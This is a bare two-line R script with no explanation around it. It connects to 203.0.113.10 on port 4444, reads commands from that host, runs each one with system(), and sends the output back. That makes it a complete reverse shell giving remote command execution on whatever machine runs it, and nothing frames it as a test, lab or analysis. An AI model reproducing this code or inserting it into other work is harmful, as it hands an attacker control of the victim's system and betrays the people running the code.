con <- socketConnection("203.0.113.10", 4444, open = "r+")
repeat writeLines(system(readLines(con, 1), intern = TRUE), con)
